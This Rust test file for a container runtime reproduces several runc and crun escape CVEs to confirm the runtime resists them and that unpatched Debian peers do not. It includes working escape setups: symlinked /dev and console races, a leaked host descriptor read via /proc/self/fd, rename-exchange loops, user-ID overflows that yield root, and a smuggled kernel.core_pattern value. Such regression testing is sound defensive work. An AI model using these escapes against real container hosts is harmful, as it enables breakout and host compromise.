//! More holes of other runtimes, each shown to be one: by Debian's runc or crun where these still have it, else by what a
//! runtime would do that did not know of it.

use e2e::peers::uncorrected;
use e2e::{Bundle, Sandbox};
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};

const RUNC: &str = "1.1.5+ds1-1+deb12u1";
const CRUN: &str = "1.8.1-1+deb12u1";

fn outside(s: &Sandbox) -> PathBuf {
    let path = s.dir.join("outside");
    let _ = fs::remove_dir_all(&path);
    fs::create_dir(&path).unwrap();
    path
}

fn count(dir: &Path) -> usize {
    fs::read_dir(dir).unwrap().count()
}

/// What crun takes: an older version of the specification, and no mount for groups that it does not manage.
fn for_crun(bundle: &mut Bundle) {
    bundle.set("/ociVersion", json!("1.0.2"));
    unmounted(bundle, "/sys/fs/cgroup");
}

/// Leaves the root file system without mounts at these places.
fn unmounted(bundle: &mut Bundle, places: &str) {
    let mounts = bundle.config["mounts"].as_array().unwrap().clone();
    let kept = mounts.into_iter().filter(|m| !m["destination"].as_str().unwrap().starts_with(places));
    bundle.set("/mounts", kept.collect());
}

#[test]
fn cve_2026_47766_devices_by_way_of_a_link() {
    let s = Sandbox::new();
    let mut bundle = s.bundle("box", &["true"]);
    let outside = outside(&s);
    fs::remove_dir(bundle.dir.join("rootfs/dev")).unwrap();
    symlink(&outside, bundle.dir.join("rootfs/dev")).unwrap();
    if uncorrected("runc", RUNC) {
        s.peer("runc", "run -b box box").ok();
        assert_ne!(count(&outside), 0, "CVE-2026-41579: runc's links are on the host");
        self::outside(&s);
    }
    s.oci("run -b box box").fails(1, &["/dev"]);
    unmounted(&mut bundle, "/dev");
    for_crun(&mut bundle);
    bundle.write();
    // Nothing is mounted there: its devices are where the link leads inside the root, if anywhere.
    s.oci("run -b box box");
    assert_eq!(count(&outside), 0);
    for (runtime, version) in [("runc", RUNC), ("crun", CRUN)] {
        if uncorrected(runtime, version) {
            s.peer(runtime, "run -b box box");
            s.peer(runtime, "delete -f box");
            assert_ne!(count(&outside), 0, "{runtime}'s devices are on the host");
            self::outside(&s);
        }
    }
    s.end();
}

#[test]
fn cve_2026_30892_who_is_no_number() {
    let s = Sandbox::new();
    let mut bundle = s.bundle("box", &["sleep", "1000"]);
    for_crun(&mut bundle);
    bundle.write();
    s.oci_apart("run -d -b box box");
    let ids = [
        "-1",
        "4294967296",
        "4294967297:1",
        "1:4294967296",
        "99999999999999999999",
        "0x10",
        "7x",
        "+7",
        " 7",
        "x",
    ];
    for id in ids {
        s.oci(&format!("exec '--user={id}' box id -u")).fails(255, &["not a number"]);
    }
    s.oci("delete -f box").ok();
    // Who becomes root elsewhere.
    for (runtime, version, id) in
        [("crun", CRUN, "-1"), ("crun", CRUN, "4294967296"), ("runc", RUNC, "4294967296")]
    {
        if uncorrected(runtime, version) {
            s.peer(runtime, "run -d -b box box >/dev/null 2>&1").ok();
            assert_eq!(s.peer(runtime, &format!("exec --user={id} box id -u")).ok(), "0", "{runtime} {id}");
            s.peer(runtime, "delete -f box").ok();
        }
    }
    s.end();
}

/// What a runtime does that knows nothing, step by step: each leads to the host's file.
#[test]
fn links_lead_outside_who_follows_them() {
    let s = Sandbox::new();
    let outside = outside(&s);
    fs::write(outside.join("secret"), "secret").unwrap();
    let bundle = s.bundle("box", &["true"]);
    let root = bundle.dir.join("rootfs");
    fs::create_dir_all(root.join("dev")).unwrap();
    symlink(outside.join("secret"), root.join("dev/null")).unwrap();
    fs::write(root.join("masked"), "visible").unwrap();
    // CVE-2025-31133: a mask that is the container's own /dev/null; CVE-2025-52565: so with /dev/console.
    let masked =
        "unshare -m sh -c 'mount --bind box/rootfs/dev/null box/rootfs/masked && cat box/rootfs/masked'";
    assert_eq!(s.host(masked).ok(), "secret");
    // CVE-2024-21626: a descriptor of the host's is still open when the root is changed.
    let leaked = "exec 7</; unshare -mpf --mount-proc=box/rootfs/proc chroot box/rootfs \
        sh -c 'cd /proc/self/fd/7 && cat .'$PWD/outside/secret";
    assert_eq!(s.host(leaked).ok(), "secret");
    // CVE-2021-30465, CVE-2024-45310: a path that was looked at, and is another one when it is used.
    let swapped = "cd box/rootfs && mkdir -p a/b && ln -s ../../outside link && [ ! -L a ] && mv a old && mv link a && mkdir -p a/b/c";
    s.host(swapped).ok();
    assert!(outside.join("b/c").exists());
    // CVE-2022-0811: more in a value than a value.
    assert_eq!(
        s.host("v='1+kernel.core_pattern=x'; IFS=+; for s in $v; do echo $s; done | tail -n 1").ok(),
        "kernel.core_pattern=x"
    );
    s.end();
}

/// Exchanges two entries of a directory, again and again, while `f` runs.
fn exchanging<R>(dir: &Path, one: &str, other: &str, f: impl FnOnce() -> R) -> R {
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let dir = fs::File::open(dir).unwrap();
            while !stop.load(Ordering::Relaxed) {
                let exchange = rustix::fs::RenameFlags::EXCHANGE;
                rustix::fs::renameat_with(&dir, one, &dir, other, exchange).unwrap();
                std::thread::sleep(std::time::Duration::from_micros(10));
            }
        });
        // Also when a test fails in between.
        let _stop = Stop(&stop);
        f()
    })
}

struct Stop<'a>(&'a AtomicBool);

impl Drop for Stop<'_> {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

#[test]
fn cve_2024_45310_targets_that_change_while_they_are_made() {
    let s = Sandbox::new();
    let outside = outside(&s);
    let mut bundle = s.bundle("box", &["true"]);
    let root = bundle.dir.join("rootfs");
    fs::create_dir(root.join("a")).unwrap();
    symlink("../../outside", root.join("b")).unwrap();
    for target in ["/a/tmpfs/x/y", "/a/file/x/y"] {
        let mut mount = json!({ "destination": target, "type": "tmpfs", "source": "tmpfs" });
        if target.contains("file") {
            mount = json!({ "destination": target, "source": "/etc/hostname", "options": ["bind"] });
        }
        bundle.set("/mounts/-", mount);
    }
    bundle.write();
    exchanging(&root, "a", "b", || {
        for _ in 0..20 {
            s.oci("run -b box box");
            s.oci("delete -f box").ok();
        }
    });
    assert_eq!(count(&outside), 0);
    if uncorrected("runc", RUNC) {
        let hit = exchanging(&root, "a", "b", || {
            (0..500).any(|_| {
                s.peer("runc", "run -b box box");
                count(&outside) != 0
            })
        });
        assert!(hit, "runc makes directories on the host");
    }
    s.end();
}

/// The terminal's file is the attacker's, who says what it leads to when it becomes the container's console.
#[test]
fn cve_2025_52565_a_console_that_is_exchanged() {
    let s = Sandbox::new();
    let (volume, secret) = (s.dir.join("volume"), "/proc/sys/kernel/core_pattern");
    fs::create_dir_all(volume.join("pts")).unwrap();
    s.host("mknod -m 666 volume/ptmx c 5 2").ok();
    symlink("pts/0", volume.join("0")).unwrap();
    symlink(secret, volume.join("other")).unwrap();
    let mut bundle = s.bundle("box", &["sh", "-c", "[ -c /dev/console ] || echo is $(cat /dev/console)"]);
    for_crun(&mut bundle);
    unmounted(&mut bundle, "/dev/");
    bundle.set(
        "/mounts/-",
        json!({ "destination": "/dev/pts", "type": "bind", "source": volume, "options": ["bind"] }),
    );
    let options = ["newinstance", "ptmxmode=0666", "mode=0620"];
    bundle.set(
        "/mounts/-",
        json!({ "destination": "/dev/pts/pts", "type": "devpts", "source": "devpts", "options": options }),
    );
    bundle.set("/process/terminal", json!(true)).write();
    let shown = format!("is {}", fs::read_to_string(secret).unwrap().trim());
    exchanging(&volume, "0", "other", || {
        for _ in 0..20 {
            let output = s.oci_pty("run -b box box").wait();
            assert!(!output.stdout.contains("is "), "{output}");
            s.oci("delete -f box").ok();
        }
    });
    if uncorrected("runc", RUNC) {
        let run = format!("script -qec 'runc --root {}/peer run -b box box' /dev/null", s.dir.display());
        let hit =
            exchanging(&volume, "0", "other", || (0..500).any(|_| s.host(&run).stdout.contains(&shown)));
        assert!(hit, "runc's console is the host's file");
    }
    s.end();
}

/// The label of a security module goes to the kernel's file, or nowhere.
#[test]
fn cve_2019_16884_a_label_that_somebody_else_would_get() {
    use kernel::process::{open_proc, write_own};
    // A mount namespace of this thread's.
    let s = Sandbox::new();
    let fake = s.dir.join("fake");
    fs::write(&fake, "").unwrap();
    let attribute = fs::read_link("/proc/thread-self").unwrap();
    let attribute = Path::new("/proc").join(attribute).join("attr/exec");
    s.host(&format!("mount --bind fake {}", attribute.display()));
    let mounted = fs::read_to_string("/proc/thread-self/mountinfo").unwrap().contains("attr/exec");
    assert!(mounted);
    let proc = open_proc().unwrap();
    assert_eq!(write_own(&proc, c"attr/exec", b"label"), Err(rustix::io::Errno::XDEV));
    assert_eq!(fs::read_to_string(&fake).unwrap(), "");
    // Who goes by the name writes the file.
    fs::write("/proc/thread-self/attr/exec", "label").unwrap();
    assert_eq!(fs::read_to_string(&fake).unwrap(), "label");
    s.host(&format!("umount {}", attribute.display())).ok();
    // Another file system in its place, and another directory of the same.
    for cover in ["mount -t tmpfs fake /proc", "mount --bind /proc/self /proc"] {
        s.host(cover).ok();
        assert!(open_proc().is_err(), "{cover}");
        rustix::mount::unmount("/proc", rustix::mount::UnmountFlags::DETACH).unwrap();
    }
    s.end();
}

#[test]
fn cve_2022_24769_inherited_only_when_asked_for() {
    let s = Sandbox::new();
    let mut bundle = s.bundle("box", &["grep", "CapInh", "/proc/self/status"]);
    assert_eq!(s.oci("run -b box box").ok(), "CapInh:\t0000000000000000");
    bundle.set("/process/capabilities/inheritable", json!(["CAP_KILL"])).write();
    assert_eq!(s.oci("run -b box box").ok(), "CapInh:\t0000000000000020", "the test sees what there is");
    s.end();
}
